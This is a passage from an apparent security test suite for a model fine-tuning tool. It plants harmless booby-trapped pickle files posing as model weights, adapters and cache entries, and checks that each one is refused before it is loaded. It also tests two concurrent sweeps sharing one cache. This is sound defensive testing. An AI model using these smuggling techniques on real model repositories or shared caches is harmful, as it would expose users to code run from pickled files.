            json.dumps({**config, "transformers_weights": "adapter_model.bin"}), encoding="utf-8"
        )

    def adapter_beside(folder: Path) -> None:
        bomb(folder / "adapter_model.bin", went_off)
        (folder / "adapter_config.json").write_text(
            json.dumps({"peft_type": "LORA", "base_model_name_or_path": str(sound)}), encoding="utf-8"
        )

    def misnamed(folder: Path) -> None:
        (folder / "model.safetensors").unlink()
        bomb(folder / "model.safetensors", went_off)

    cases: dict[str, tuple[Callable[[Path], None], str]] = {
        "pytorch_model.bin alone": (lambda f: only(f, "pytorch_model.bin"), "weights are read from safetensors only"),
        "weights.bin alone": (lambda f: only(f, "weights.bin"), "weights are read from safetensors only"),
        "named by pytorch_model.bin.index.json": (by_old_index, "weights are read from safetensors only"),
        "named by model.safetensors.index.json": (by_index, "index.json names model-1.bin"),
        "named by transformers_weights in config.json": (by_config, "config.json names its weights itself"),
        "an adapter's, beside the model": (adapter_beside, "holds adapter_config.json beside the model"),
    }
    for number, (spoil, message) in enumerate(cases.values()):
        folder = place.folder / f"model-{number}"
        shutil.copytree(sound, folder)
        spoil(folder)
        for arguments in (("plan", place.sweep(model=str(folder))), ("run", place.sweep(model=str(folder)))):
            refused = command(place, *arguments, **watch.environment)
            assert refused.code == Exit.USAGE, refused.err
            assert message in refused.err, refused.err
    assert watch.notes() == []

    place.model = place.folder / "misnamed"
    shutil.copytree(sound, place.model)
    misnamed(place.model)
    place.sweep(space={"build": [{"precision": "int4"}]})
    ran = place.run()
    assert ran.code == Exit.USAGE, ran.err
    assert "the model cannot be loaded" in ran.err, ran.err
    assert not went_off.exists()
    return [
        Tried("a pickled model", f"a pickle that makes a folder when it is loaded: {', '.join(cases)}",
              "exit 2 from `plan` and `run`, before the file is opened"),
        Tried("a pickle named model.safetensors", "the same",
              "exit 2: the reader of safetensors refuses it before anything is trained; nothing is run"),
    ]  # fmt: skip


def a_cache_of_somebody_else(place: Place) -> list[Tried]:
    """An adapter in a shared cache whose weights are a pickle, with a manifest that agrees."""
    went_off = place.folder / "went-off"
    really_goes_off(place.folder)
    place.sweep({"learning_rate": 0.001})
    first = place.run()
    assert first.code == Exit.OK, first.err
    (entry,) = (path for path in (place.cache / "finetune").glob("*") if path.is_dir())
    (entry / "adapter_model.safetensors").unlink()
    evil = bomb(entry / "adapter_model.bin", went_off)
    manifest = json.loads((entry / MANIFEST).read_text(encoding="utf-8"))
    del manifest["files"]["adapter_model.safetensors"]
    content = evil.read_bytes()
    manifest["files"][evil.name] = {"size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    (entry / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    for stage in ("build", "score"):
        shutil.rmtree(place.cache / stage)
    score = place.rows()[-1]["accuracy"]
    place.out = place.folder / "second"
    watch = Watch(place.folder, "adapter_model.bin")
    ran = place.run(**watch.environment)
    assert ran.code == Exit.OK, ran.err
    assert place.rows()[-1]["accuracy"] == score
    assert (entry / "adapter_model.safetensors").is_file()
    assert not evil.exists()

    # And the reader of adapters by itself, should anybody come to it another way.
    from autotune.stages.torch_model import load_adapter

    lone = place.folder / "lone"
    lone.mkdir()
    shutil.copy(entry / "adapter_config.json", lone)
    bomb(lone / "adapter_model.bin", went_off)
    said = ""
    try:
        load_adapter(None, lone)
    except StageError as error:
        said = str(error)
    assert "holds no adapter_model.safetensors" in said
    assert watch.notes() == []
    assert not went_off.exists()
    return [
        Tried("a pickled adapter in a cache that others write to",
              "an entry holds adapter_model.bin instead of safetensors, and its manifest agrees",
              "the entry counts as damaged and is made again, the same score; the pickle is never opened; the reader of "
              "adapters refuses it as well")
    ]  # fmt: skip


# --- two at once -----------------------------------------------------------------------------------------------------


def two_sweeps_at_once(place: Place) -> list[Tried]:
    """Two sweeps that overlap, started together on an empty cache."""
    rates = {"left": [0.001, 0.002, 0.004], "right": [0.002, 0.004, 0.008]}
    processes = {}
    for name, choices in rates.items():
        file = place.sweep({"learning_rate": {"choice": choices}}, space={
            "lora": {"r": 2, "steps": 6, "learning_rate": {"choice": choices}},
            "build": [{"precision": "int8"}, {"precision": "int4"}],
        })  # fmt: skip
        own = file.rename(place.folder / f"{name}.json")
        processes[name] = subprocess.Popen(
            [sys.executable, "-m", "autotune", "run", str(own), "--out", str(place.folder / name)], cwd=ROOT, text=True,
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, encoding="utf-8",
            env={**os.environ, "AUTOTUNE_CACHE": str(place.cache)},
        )  # fmt: skip
    for process in processes.values():
        _, said = process.communicate(timeout=2 * WAIT_S)
        assert process.returncode == Exit.OK, said
    results, again = {}, False
    for name in rates:
        every = read_table(place.folder / name / "results.csv", Trial)
        rows = [row for row in every if row["attempt"] == 1]
        again |= len(rows) < len(every)  # beside other work a graph is timed once more, by one of them or by both
        assert [row["trial"] for row in rows] == list(range(7)), rows
        assert {row["status"] for row in rows} == {"ok"}, rows
        results[name] = {row["candidate"]: row for row in rows}
    both = results["left"].keys() & results["right"].keys()
    assert len(both) == 5  # two adapters in two recipes, and the untouched model
    same = ["accuracy", "accuracy_n", "train_loss", "graph", "size_mb", "adapter", *([] if again else ["itl_ms_p50"])]
    for candidate in both:
        left, right = ({key: found[candidate][key] for key in same} for found in results.values())
        assert left == right
    found_logs = [files_below(place.folder / name / "logs") for name in rates]
    logs = [log for found in found_logs for file, log in found.items() if file.name != "turns.log"]
    begun = sum(log.count(b"--- finetune ") for log in logs)
    adapters = {str(row["adapter"]) for found in results.values() for row in found.values() if row["adapter"]}
    assert len(adapters) == 4
    assert begun == len(adapters)
    assert len(list(place.cache.glob(f"finetune/*/{MANIFEST}"))) == len(adapters)
    builds = sum(log.count(b"--- build ") for log in logs)
    timings = sum(log.count(b"--- time ") for log in logs)
    assert timings == 2 * len(list(place.cache.glob(f"time/*/{MANIFEST}")))
    return [
        Tried("two sweeps race for one cache",
              f"two `autotune run` at once on an empty cache, 6 candidates each, {len(both) - 1} of them and the untouched "
              "model the same",
              f"equal scores and timings for all {len(both)}; {len(adapters)} adapters, {begun} trainings, {builds} builds")
    ]  # fmt: skip


Scenario = Callable[[Place], list[Tried]]

ANYWHERE: Sequence[Scenario] = (
    modules_beside_a_sweep, secrets_and_hostile_messages, secrets_of_every_process, the_tuner_is_killed_before_it_cleans,
    secrets_on_command_lines, names_stay_inside, tables_run_nothing, tables_command_no_terminal,
    pickled_models_are_refused, a_cache_of_somebody_else, two_sweeps_at_once,
)  # fmt: skip
WITHOUT_NETWORK: Sequence[Scenario] = (a_sweep_from_a_stranger,)
"""They need a network namespace: Linux, as root or with user namespaces."""


def markdown(tried: Sequence[tuple[Tried, str]]) -> str:
    """Return the table."""
    lines = ["| threat | how it is tried | test | outcome |", "|---|---|---|---|"]
    for one, test in tried:
        cells = [cell.replace("|", "\\|") for cell in (one.threat, one.how, f"`{test}`", one.outcome)]
        lines.append("| " + " | ".join(cells) + " |")
    return "\n".join(lines) + "\n"


def main() -> None:
    """Try everything and print the table."""
    tried = []
    for scenario in (*(WITHOUT_NETWORK if may_be_apart() else ()), *ANYWHERE):
        with tempfile.TemporaryDirectory(prefix="security-", ignore_cleanup_errors=True) as folder:
            found = scenario(Place(Path(folder), tiny_model(Path(folder))))
            tried += [(one, scenario.__name__) for one in found]
            print(scenario.__name__, file=sys.stderr)  # noqa: T201
    print("# Security: what is tried, and what comes of it\n")  # noqa: T201
    print("Made by `python -m tests.security`; every line is a test in `tests/test_security.py`.\n")  # noqa: T201
    print(markdown(tried), end="")  # noqa: T201


if __name__ == "__main__":
    main()
